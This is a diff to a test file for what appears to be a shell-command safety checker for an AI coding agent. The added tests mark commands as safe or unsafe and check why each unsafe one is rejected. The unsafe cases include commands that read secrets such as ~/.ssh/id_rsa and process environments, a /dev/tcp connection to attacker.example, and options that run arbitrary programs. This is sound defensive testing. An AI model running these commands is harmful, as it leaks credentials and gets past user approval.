@@ -19,6 +19,19 @@ describe("shell commands judged by a real parser", () => {
     "echo hello > /dev/null",
     "cd src && ls",
     'grep -rn "pattern" . 2>/dev/null',
+    "git branch -a",
+    "git branch --show-current",
+    "git tag -l 'v1*'",
+    "git remote -v",
+    "sort -u names.txt",
+    "uniq -c counts.txt",
+    "cat src/a.ts",
+    `cat ${WS}/src/a.ts`,
+    "ls ./src",
+    "wc -l < src/a.ts",
+    "rg --pre-glob '*.gz' TODO src",
+    "date -Iseconds",
+    "cut -d/ -f2 paths.txt",
   ])("known safe: %s", (command) => {
     const analysis = analyzeCommand(command, WS);
     expect(analysis.unsafeBecause).toBeUndefined();
@@ -74,12 +87,88 @@ describe("shell commands judged by a real parser", () => {
     ["a function definition", "f() { rm x; }; f"],
     ["process substitution", "cat <(rm x)"],
     ["sort -o", "sort -o out.txt in.txt"],
+    // Options that run a program.
+    ["git grep -O attached", "git grep -O'touch MARKER;' hello"],
+    ["git grep -O", "git grep -O CMD x"],
+    ["git grep -nO bundled", "git grep -nOCMD x"],
+    ["git grep --open-files-in-pager", "git grep --open-files-in-pager=CMD x"],
+    ["git grep --open (abbreviated)", "git grep --open=CMD x"],
+    ["sort --compress-program", "sort --compress-program=CMD x"],
+    ["sort --compress (abbreviated)", "sort --compress=CMD x"],
+    ["rg --pre", "rg --pre CMD x"],
+    ["rg --pre=", "rg --pre=CMD x"],
+    ["rg --pre beside --pre-glob", "rg --pre-glob '*.gz' --pre CMD x"],
+    // Options and operands that write or change the system.
+    ["sort -o attached", "sort -o/tmp/x in"],
+    ["sort -o to outside", "sort -o /tmp/x in"],
+    ["sort -uo bundled", "sort -uo out.txt in"],
+    ["sort --outp (abbreviated)", "sort --outp=/tmp/x in"],
+    ["sort --out (abbreviated)", "sort --out=out.txt in"],
+    ["sort --files0-from", "sort --files0-from=list.txt"],
+    ["uniq - OUT", "uniq - PATH"],
+    ["uniq IN OUT", "uniq IN OUT"],
+    ["uniq -f N IN OUT", "uniq -f 1 IN OUT"],
+    [">& to a path", "ls >&/tmp/x"],
+    [">& to a file", "ls >& out.txt"],
+    ["a redirect of a group", "{ ls; } > out.txt"],
+    ["a redirect alone", "ls; > out.txt"],
+    ["date -s", "date -s X"],
+    ["date --set", "date --set=X"],
+    ["date with a time operand", "date 010100002030"],
+    ["hostname NAME", "hostname X"],
+    ["hostname -F", "hostname -F name.txt"],
+    ["hostname --file", "hostname --file name.txt"],
+    ["hostname -b", "hostname -b"],
+    ["git branch NAME", "git branch NAME"],
+    ["git branch -f", "git branch -f main HEAD"],
+    ["git branch --force", "git branch --force x"],
+    ["git branch --forc (abbreviated)", "git branch --forc x"],
+    ["git branch --color NAME", "git branch --color always"],
+    ["git tag NAME", "git tag NAME"],
+    ["git tag -f", "git tag -f x"],
+    ["git remote update", "git remote update"],
+    ["git remote set-head", "git remote set-head origin -a"],
+    ["git remote prune", "git remote prune origin"],
+    // Reads outside the workspace, or of a path only known at run time.
+    ["a parent path", "cat ../outside.txt"],
+    ["an absolute path", "cat /etc/passwd"],
+    ["an absolute path that climbs out", `cat ${WS}/../outside.txt`],
+    ["cd outside", "cd /x && cat f"],
+    ["cd home", "cd && cat .bashrc"],
+    ["inside $(...)", "echo $(cat ../outside.txt)"],
+    ["~", "cat ~/.ssh/id_rsa"],
+    ["$HOME", "cat $HOME/.ssh/id_rsa"],
+    ["a brace expansion", "cat {..,x}/outside.txt"],
+    ["an option's attached path", "grep -f/etc/passwd x"],
+    ["an option's value", "grep --file=../patterns x"],
+    ["a computed argument", "cat $FILE"],
+    ["a computed input redirect", "tr '\\0' '\\n' < /proc/$PPID/environ"],
+    ["an input redirect outside", "wc -l < /etc/passwd"],
+    ["an input redirect of a loop", "for f in a; do cat f; done < /etc/passwd"],
+    ["/dev/tcp computed", "cat < /dev/tcp/$(echo x).attacker.example/80"],
+    ["/dev/tcp", "cat < /dev/tcp/example.com/80"],
+    ["/dev/udp output", "echo x > /dev/udp/example.com/53"],
   ])("never safe: %s", (_row, command) => {
     const analysis = analyzeCommand(command, WS);
     expect(analysis.safe).toBe(false);
     expect(analysis.unsafeBecause).toBeTruthy();
     expect(decision("auto-edit", command)).toBe("ask");
     expect(decision("never-ask", command)).toBe("deny");
+  });
+
+  it.each([
+    ["sort -o /tmp/x in", /writes its output to a file/],
+    ["git grep -O'touch MARKER;' hello", /opens the files with a program/],
+    ["rg --pre CMD x", /runs a preprocessor program/],
+    ["uniq IN OUT", /writes its second operand \(OUT\)/],
+    ["ls >& out.txt", /writes to out\.txt/],
+    ["git remote prune origin", /git remote prune is not known to be read-only/],
+    ["cat /etc/passwd", /reads \/etc\/passwd, outside the workspace/],
+    ["cd /x && cat f", /changes to \/x, outside the workspace/],
+    ["cat $FILE", /path computed at run time/],
+    ["cat < /dev/tcp/example.com/80", /network connection/],
+  ])("says why it is not safe: %s", (command, why) => {
+    expect(analyzeCommand(command, WS).unsafeBecause).toMatch(why);
   });
 
   it.each([
